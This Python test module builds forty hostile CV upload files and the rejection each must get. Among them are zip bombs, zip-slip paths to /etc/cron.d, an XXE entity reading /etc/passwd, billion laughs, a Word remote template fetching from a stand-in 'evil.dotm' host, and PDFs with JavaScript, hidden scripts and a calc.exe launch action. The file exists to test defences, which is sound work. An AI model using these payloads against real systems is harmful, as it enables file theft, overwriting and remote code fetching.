"""I5: forty files that somebody may send in to do harm, each with its name and the answer that it must get."""

import io
import json
import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from skillsbank.reading.kinds import LARGEST
from tests import files

READ, FULL = "read", "413"
"""Read without the harmful part; refused before anything of it is looked at."""
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><{root}>&x;</{root}>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]><{root}>&j;</{root}>"
)
MB = 1024 * 1024


@dataclass(frozen=True)
class Attack:
    """One file: what it is called, how it is made, and what answers it."""

    file: str
    make: Callable[[], bytes]
    answer: str


def zipped(*entries: tuple[str | zipfile.ZipInfo, bytes]) -> Callable[[], bytes]:
    """Return what makes a DOCX with further entries."""
    return lambda: files.repacked(files.docx(), entries)


def replaced(**parts: str | bytes) -> Callable[[], bytes]:
    """Return what makes a DOCX in which parts are replaced."""
    made = {name: part if isinstance(part, bytes) else part.encode() for name, part in parts.items()}
    return lambda: files.repacked(files.docx(), **made)


def link_entry() -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo("word/media/link")
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry


def locked_zip() -> bytes:
    data = bytearray(files.docx())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sign)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(sign, at + 4)
    return bytes(data)


def lying_zip() -> bytes:
    """Make a DOCX whose table of contents says that a part is a few bytes long."""
    data = bytearray(files.docx())
    at = data.find(b"word/document.xml", data.find(b"PK\x01\x02")) - 46
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("readme.txt", "hello")
    return out.getvalue()


def acting(act: str, **values: str) -> Callable[[], bytes]:
    """Return what makes a PDF whose first page acts when it is opened."""

    def make() -> bytes:
        made = files.writer(files.ENGLISH)
        made._root_object[NameObject("/OpenAction")] = made._add_object(_action(act, **values))
        return files.written(made)

    return make


def acting_note() -> bytes:
    """Make a PDF with a link on the page that starts a program."""
    made = files.writer(files.ENGLISH)
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 500, 800)]),
            NameObject("/A"): _action("/Launch", F="calc.exe"),
        }
    )  # fmt: skip
    made.pages[0][NameObject("/Annots")] = ArrayObject([made._add_object(link)])
    return files.written(made)


def packed_script() -> bytes:
    """Make a PDF in whose bytes a search for the names of scripts finds none: they are written in escapes."""
    made = files.writer(files.ENGLISH)
    names = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("x"), _action("/JavaScript", JS="1")])}
    )
    made._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): made._add_object(names)})
    out = io.BytesIO()
    made.write(out)
    return out.getvalue().replace(b"/JavaScript", b"/#4aavaScript").replace(b"/JS", b"/#4aS")


def form_pdf() -> bytes:
    made = files.writer(files.ENGLISH)
    form = DecodedStreamObject()
    form.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    held = DictionaryObject({NameObject("/XFA"): made._add_object(form), NameObject("/Fields"): ArrayObject()})
    made._root_object[NameObject("/AcroForm")] = held
    return files.written(made)


def locked_pdf(password: str) -> Callable[[], bytes]:
    def make() -> bytes:
        made = files.writer(files.ENGLISH)
        made.encrypt(password, "owner", algorithm="RC4-128")
        out = io.BytesIO()
        made.write(out)
        return out.getvalue()

    return make


def bomb_pdf() -> bytes:
    """Make a PDF whose page unpacks to 80 MB."""
    made = files.writer(files.ENGLISH)
    content = DecodedStreamObject()
    content.set_data(b"\0" * (80 * MB))
    made.pages[0][NameObject("/Contents")] = made._add_object(content.flate_encode())
    out = io.BytesIO()
    made.write(out)
    return out.getvalue()


def endless_pdf() -> bytes:
    """Make a PDF whose tree of pages holds itself."""
    data = files.pdf(files.ENGLISH)
    made = PdfWriter(io.BytesIO(data))
    tree = made._root_object["/Pages"].get_object()
    tree[NameObject("/Kids")] = ArrayObject([made._root_object.raw_get("/Pages")])
    out = io.BytesIO()
    made.write(out)
    return out.getvalue()


def _action(act: str, **values: str) -> DictionaryObject:
    said = {NameObject(f"/{name}"): TextStringObject(value) for name, value in values.items()}
    return DictionaryObject({NameObject("/S"): NameObject(act), **said})


TYPES = '<Types><Override PartName="/{}" ContentType="application/vnd.{}+xml"/></Types>'
REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://203.0.113.9/evil.dotm" TargetMode="External"/></Relationships>'
)
ATTACKS: dict[str, Attack] = {
    "zip bomb": Attack("cv.docx", zipped(("word/media/a.bin", b"\0" * (31 * MB))), "too_heavy"),
    "zip bomb of many parts": Attack("cv.docx", zipped(*((f"word/{n}", b"") for n in range(1100))), "too_heavy"),
    "zip bomb in a zip": Attack("cv.docx", zipped(("word/embeddings/a.zip", b"PK\x03\x04" + b"\1" * 900)), READ),
    "zip that lies about sizes": Attack("cv.docx", lying_zip, "damaged"),
    "zip slip": Attack("cv.docx", zipped(("word/../../../etc/cron.d/x", b"x")), "unsafe_paths"),
    "zip slip from the root": Attack("cv.docx", zipped(("/etc/passwd", b"x")), "unsafe_paths"),
    "zip slip of windows": Attack("cv.docx", zipped(("word\\..\\..\\x", b"x")), "unsafe_paths"),
    "zip with a symbolic link": Attack("cv.docx", zipped((link_entry(), b"/etc/passwd")), "unsafe_paths"),
    "zip with two parts of one name": Attack("cv.docx", zipped(("Word/Document.xml", b"<a/>")), "damaged"),
    "zip that is locked": Attack("cv.docx", locked_zip, "locked"),
    "zip that is no document": Attack("cv.docx", plain_zip, "unknown_kind"),
    "macros": Attack("cv.docx", zipped(("word/vbaProject.bin", b"x")), "macros"),
    "macros by their type": Attack(
        "cv.docx",
        replaced(
            **{"[Content_Types]_DOT_xml": TYPES.format("word/document.xml", "ms-word.document.macroEnabled.main")}
        ),
        "macros",
    ),
    "xml by another name": Attack(
        "cv.docx", replaced(**{"[Content_Types]_DOT_xml": TYPES.format("word/a.bin", "openxmlformats.x")}), "damaged"
    ),
    "active controls": Attack("cv.docx", zipped(("word/activeX/activeX1.bin", b"x")), "macros"),
    "outside entity": Attack("cv.docx", replaced(word__document_DOT_xml=XXE.replace("{root}", "r")), "entities"),
    "billion laughs": Attack("cv.docx", replaced(word__document_DOT_xml=LAUGHS.replace("{root}", "r")), "entities"),
    "entity in another coding": Attack(
        "cv.docx", replaced(word__styles_DOT_xml=XXE.replace("{root}", "r").encode("utf-16")), "entities"
    ),
    "remote template": Attack("cv.docx", zipped(("word/_rels/settings.xml.rels", REMOTE.encode())), "reaches_out"),
    "old word": Attack("cv.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, "old_word"),
    "page and pdf in one": Attack("cv.pdf", lambda: b"<html><script>1</script>" + files.pdf("x"), "two_in_one"),
    "pdf with a page in its head": Attack("cv.pdf", lambda: b"%PDF-1.7\n<html>" + files.pdf("x")[9:], "two_in_one"),
    "pdf and zip in one": Attack("cv.pdf", lambda: files.pdf(files.ENGLISH) + plain_zip(), "two_in_one"),
    "pdf with a script": Attack("cv.pdf", acting("/JavaScript", JS="app.alert(1)"), "acts"),
    "pdf with a hidden script": Attack("cv.pdf", packed_script, "acts"),
    "pdf that starts a program": Attack("cv.pdf", acting_note, "acts"),
    "pdf with a form that runs": Attack("cv.pdf", form_pdf, "acts"),
    "pdf with a program attached": Attack("cv.pdf", lambda: files.pdf(files.ENGLISH, attached={"a.exe": b"MZ"}), READ),
    "pdf with an entity attached": Attack(
        "cv.pdf", lambda: files.pdf("x", attached={"cv.xml": XXE.replace("{root}", "SkillsPassport")}), "entities"
    ),
    "pdf locked": Attack("cv.pdf", locked_pdf("secret"), "locked"),
    "pdf locked with an empty word": Attack("cv.pdf", locked_pdf(""), "locked"),
    "pdf cut off": Attack("cv.pdf", lambda: files.pdf(files.ENGLISH)[:300], "damaged"),
    "pdf bomb": Attack("cv.pdf", bomb_pdf, "too_heavy"),
    "pdf without end": Attack("cv.pdf", endless_pdf, "damaged"),
    "program called pdf": Attack("cv.pdf", lambda: b"MZ\x90\0" + b"\0" * 500, "unknown_kind"),
    "pdf called docx": Attack("cv.docx", lambda: files.pdf("x"), "name_differs"),
    "two suffixes": Attack("cv.exe.pdf", lambda: files.pdf("x"), "name_misleads"),
    "name from right to left": Attack("cv_\u202efdp.docx", files.docx, "name_misleads"),
    "deep json": Attack("cv.json", lambda: b'{"basics":' + b"[" * 200_000 + b"]" * 200_000 + b"}", "damaged"),
    "more than there is room for": Attack("cv.pdf", lambda: b"%PDF-1.7\n" + b"\0" * (LARGEST + MB), FULL),
}
assert len(ATTACKS) == 40


def harmless() -> dict[str, tuple[str, bytes]]:
    """Return files that look odd and are fine: name, bytes."""
    return {
        "named by a word processor": ("cv.docx.pdf", files.pdf(files.ENGLISH)),
        "with dots and accents": ("Ø. Ñandú – CV 2.0 (final).PDF", files.pdf(files.ENGLISH)),
        "with a mark before": ("cv.json", b"\xef\xbb\xbf" + files.resume()),
        "with strange keys": ("cv.json", json.dumps({**files.RESUME, "__proto__": {"x": 1}}).encode()),
    }
